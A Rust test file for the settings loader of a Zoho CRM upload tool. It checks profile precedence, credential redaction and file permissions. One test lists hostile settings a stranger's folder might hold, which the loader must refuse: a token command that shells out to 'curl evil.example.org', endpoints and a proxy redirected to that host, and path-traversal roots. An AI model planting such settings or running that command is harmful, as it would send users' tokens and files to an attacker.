//! What settings files may hold, who wins, what is refused.

use std::fs;
use std::path::{Path, PathBuf};

use super::file::ConfigError;
use super::folders::FILE_NAME;
use super::profiles::write_private;
use super::*;
use crate::cli::args::TargetArgs;
use crate::zoho::{DataCentre, Renewal, Secret, Where};

const PROFILE: &str = r#"
# mine
concurrency = 3

[profiles.default]
dc = "eu"
client_id = "1000.ID"
client_secret = "hush"
refresh_token = "1000.refresh.hush"

[profiles.portal]
api_domain = "https://zylker.zohoplatform.com"
api_version = "v2.1"
token_command = ["pass", "show", "zoho"]
"#;

struct TestFolder(tempfile::TempDir);

impl TestFolder {
    fn with(text: &str) -> TestFolder {
        let folder = tempfile::tempdir().expect("a folder");
        write_private(&folder.path().join(FILE_NAME), text).expect("written");
        TestFolder(folder)
    }

    fn file(&self) -> PathBuf {
        self.0.path().join(FILE_NAME)
    }

    fn user(&self) -> Result<UserFile, ConfigError> {
        UserFile::load(&self.file())
    }

    fn beside(&self) -> Result<RunSettings, ConfigError> {
        beside(&self.0.path().join("uploads.csv"), &RunSettings::default())
    }
}

/// Without the path, which differs from run to run.
fn said<T>(result: Result<T, ConfigError>) -> String {
    match result {
        Ok(_) => panic!("accepted"),
        Err(error) => format!("{}: {}", error.place.rsplit(['/', '\\']).next().unwrap_or_default(), error.what),
    }
}

fn secret(text: &str) -> Secret {
    Secret::new(text).expect("a secret")
}

fn access_with(args: &TargetArgs, user: &UserFile, vars: &[(&str, &str)]) -> Result<Access, ConfigError> {
    let var = |name: &str| vars.iter().find(|(known, _)| *known == name).map(|(_, value)| (*value).to_owned());
    access(args, user, var, &b"1000.stdin\nrest"[..])
}

fn named(profile: &str) -> TargetArgs {
    TargetArgs { profile: Some(profile.to_owned()), ..TargetArgs::default() }
}

#[test]
fn the_users_file_holds_profiles_and_run_settings() {
    let user = TestFolder::with(PROFILE).user().expect("readable");
    assert_eq!(user.run.concurrency, Some(3));
    assert_eq!(user.profiles.keys().collect::<Vec<_>>(), ["default", "portal"]);
    let found = access_with(&TargetArgs::default(), &user, &[]).expect("access");
    assert_eq!((found.place.dc, found.source.as_str()), (Some(DataCentre::Eu), "profile default"));
    assert!(matches!(found.credentials.renewal, Some(Renewal::Refresh { .. })));
    let portal = access_with(&named("portal"), &user, &[]).expect("access");
    assert_eq!(portal.place.version.to_string(), "v2.1");
    assert!(matches!(portal.credentials.renewal, Some(Renewal::Command(words)) if words.len() == 3));
}

#[test]
fn the_environment_comes_before_a_profile_that_nobody_named() {
    let user = TestFolder::with(PROFILE).user().expect("readable");
    let token = [("ZOHO_ACCESS_TOKEN", "1000.env\n")];
    let found = access_with(&TargetArgs::default(), &user, &token).expect("access");
    assert_eq!((found.credentials.access, found.source.as_str()), (Some(secret("1000.env")), "environment"));
    // The place is still the profile's: nothing else names one.
    assert_eq!(found.place.dc, Some(DataCentre::Eu));
    let typed = access_with(&named("default"), &user, &token).expect("access");
    assert_eq!((typed.credentials.access, typed.source.as_str()), (None, "profile default"));
    let stdin = access_with(&TargetArgs::default(), &user, &[("ZOHO_ACCESS_TOKEN", "-")]).expect("access");
    assert_eq!(stdin.credentials.access, Some(secret("1000.stdin")));
}

#[test]
fn an_address_on_the_command_line_replaces_the_profiles_as_a_whole() {
    let user = TestFolder::with(PROFILE).user().expect("readable");
    let args = TargetArgs { dc: Some(DataCentre::In), ..named("portal") };
    let found = access_with(&args, &user, &[]).expect("access");
    assert_eq!((found.place.dc, found.place.api_domain), (Some(DataCentre::In), None));
}

#[test]
fn incomplete_or_malformed_credentials_are_named_and_not_shown() {
    let none = UserFile::default();
    let vars = |vars: &[(&str, &str)]| said(access_with(&TargetArgs::default(), &none, vars));
    assert_eq!(
        vars(&[("ZOHO_CLIENT_ID", "1000.hush"), ("ZOHO_REFRESH_TOKEN", "hush")]),
        "the environment: ZOHO_CLIENT_SECRET is missing; a refresh needs all three"
    );
    let blank = vars(&[("ZOHO_ACCESS_TOKEN", "Zoho-oauthtoken 1000.hush")]);
    assert!(blank.starts_with("the environment variable ZOHO_ACCESS_TOKEN: ") && !blank.contains("hush"), "{blank}");
    assert_eq!(
        said(access_with(&named("portal"), &none, &[])),
        "--profile portal: there is no such profile; none are stored yet"
    );
    for text in [
        "[profiles.a]\nclient_secret = 5",
        "[profiles.a]\nclient_secret = \"hush hush\"",
        "[profiles.a]\nclient_secret = [\"hush\"]",
        "[profiles.a]\nclient_secret = \"hush",
        "[profiles.a]\nclient_secret = hush",
        "[profiles]\na = \"hush\"",
        "profiles = \"hush\"",
    ] {
        let error = said(TestFolder::with(text).user());
        assert!(!error.contains("hush"), "{error}");
        assert!(error.starts_with("attache.toml, line "), "{error}");
    }
}

#[test]
fn a_credentials_file_is_read_when_the_environment_names_one() {
    let folder = TestFolder::with("client_id = \"a\"\nclient_secret = \"b\"\nrefresh_token = \"c\"");
    let path = folder.file().display().to_string();
    let vars = [("ZOHO_CREDENTIALS_FILE", path.as_str())];
    let found = access_with(&TargetArgs::default(), &UserFile::default(), &vars).expect("access");
    assert!(matches!(found.credentials.renewal, Some(Renewal::Refresh { .. })));
}

#[cfg(unix)]
#[test]
fn a_file_with_credentials_that_others_can_read_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let folder = TestFolder::with(PROFILE);
    fs::set_permissions(folder.file(), fs::Permissions::from_mode(0o640)).expect("permissions");
    assert!(said(folder.user()).contains("chmod 600"));
    let path = folder.file().display().to_string();
    let vars = [("ZOHO_CREDENTIALS_FILE", path.as_str())];
    assert!(said(access_with(&TargetArgs::default(), &UserFile::default(), &vars)).contains("chmod 600"));
}

#[test]
fn mistakes_are_named_with_their_line_and_what_would_be_right() {
    for (text, wanted) in [
        ("\nconcurency = 3", "attache.toml, line 2: there is no setting `concurency`; did you mean `concurrency`?"),
        ("concurrency = 26", "attache.toml, line 1: `concurrency` must be a number from 1 to 25"),
        ("rate = 10", "attache.toml, line 1: `rate` must be a text like \"10/s\", \"90/min\" or \"none\""),
        ("strict = \"yes\"", "attache.toml, line 1: `strict` must be true or false"),
        ("[strict]", "attache.toml, line 1: `strict` must be a plain value"),
        ("[profiles.a]\ndc = \"mars\"", "attache.toml, line 2: `dc` must be one of us, eu, in, au, jp, cn, ca, sa, uk"),
        (
            "[profiles.a]\nclient_ident = \"x\"",
            "attache.toml, line 2: there is no setting `client_ident`; did you mean `client_id`?",
        ),
    ] {
        assert_eq!(said(TestFolder::with(text).user()), wanted);
    }
}

#[test]
fn a_file_beside_the_manifest_sets_how_a_run_goes() {
    let folder =
        TestFolder::with("concurrency = 2\nmax_size = \"20MB\"\ncustom_modules = [\"Fleet\"]\nroot = \"scans\"");
    fs::create_dir(folder.0.path().join("scans")).expect("a folder");
    let run = folder.beside().expect("readable");
    assert_eq!((run.concurrency, run.max_size), (Some(2), Some(20_000_000)));
    assert_eq!(run.root, Some(folder.0.path().join("scans")));
    assert_eq!(beside(Path::new("/nowhere/at/all/uploads.csv"), &RunSettings::default()), Ok(RunSettings::default()));
}

#[test]
fn a_folder_from_a_stranger_cannot_send_files_or_tokens_anywhere() {
    let outside = tempfile::tempdir().expect("a folder");
    for text in [
        "api_domain = \"https://evil.example.org\"",
        "dc = \"cn\"",
        "accounts_url = \"https://evil.example.org\"",
        "token_command = [\"sh\", \"-c\", \"curl evil.example.org\"]",
        "access_token = \"x\"",
        "ca_file = \"ca.pem\"",
        "proxy = \"http://evil.example.org\"",
        "allow_outside = true",
        "settle_time = \"0s\"",
        "[profiles.default]\napi_domain = \"https://evil.example.org\"",
    ] {
        assert!(said(TestFolder::with(text).beside()).contains("may not stand in a file beside a manifest"), "{text}");
    }
    for root in [
        "..",
        "/",
        "../..",
        "missing",
        "//srv/share",
        "/\\\\srv/share",
        &outside.path().display().to_string().replace('\\', "/"),
    ] {
        let error = said(TestFolder::with(&format!("root = \"{root}\"")).beside());
        assert!(error.contains("inside that of the manifest"), "{root}: {error}");
    }
    #[cfg(unix)]
    {
        let folder = TestFolder::with("root = \"link\"");
        std::os::unix::fs::symlink(outside.path(), folder.0.path().join("link")).expect("a link");
        assert!(said(folder.beside()).contains("inside that of the manifest"));
    }
}

#[test]
fn storing_a_profile_leaves_the_rest_of_the_file_alone() {
    let folder = TestFolder::with(PROFILE);
    let place = Where { dc: Some(DataCentre::Jp), ..Where::default() };
    let new = NewProfile {
        place: &place,
        client_id: &secret("1000.new"),
        client_secret: &secret("new-secret"),
        refresh_token: &secret("new-token"),
        scopes: &["ZohoCRM.modules.ALL".to_owned()],
    };
    store_profile(&folder.file(), "work", &new).expect("stored");
    let text = fs::read_to_string(folder.file()).expect("readable");
    assert!(text.starts_with("\n# mine\nconcurrency = 3\n"), "{text}");
    let user = folder.user().expect("readable, and private");
    assert_eq!(user.profiles["work"].place.dc, Some(DataCentre::Jp));
    assert_eq!(user.profiles["work"].scopes, ["ZohoCRM.modules.ALL"]);
    assert_eq!(remove_profile(&folder.file(), "work"), Ok(true));
    assert_eq!(remove_profile(&folder.file(), "work"), Ok(false));
    assert_eq!(folder.user().expect("readable").profiles.len(), 2);
}

#[test]
fn a_first_profile_makes_its_folder_and_file() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("deep").join(FILE_NAME);
    let new = NewProfile {
        place: &Where { api_domain: Some("https://a.zohoplatform.com".to_owned()), ..Where::default() },
        client_id: &secret("a"),
        client_secret: &secret("b"),
        refresh_token: &secret("c"),
        scopes: &[],
    };
    store_profile(&path, DEFAULT_PROFILE, &new).expect("stored");
    assert!(UserFile::load(&path).expect("readable").profiles.contains_key(DEFAULT_PROFILE));
}
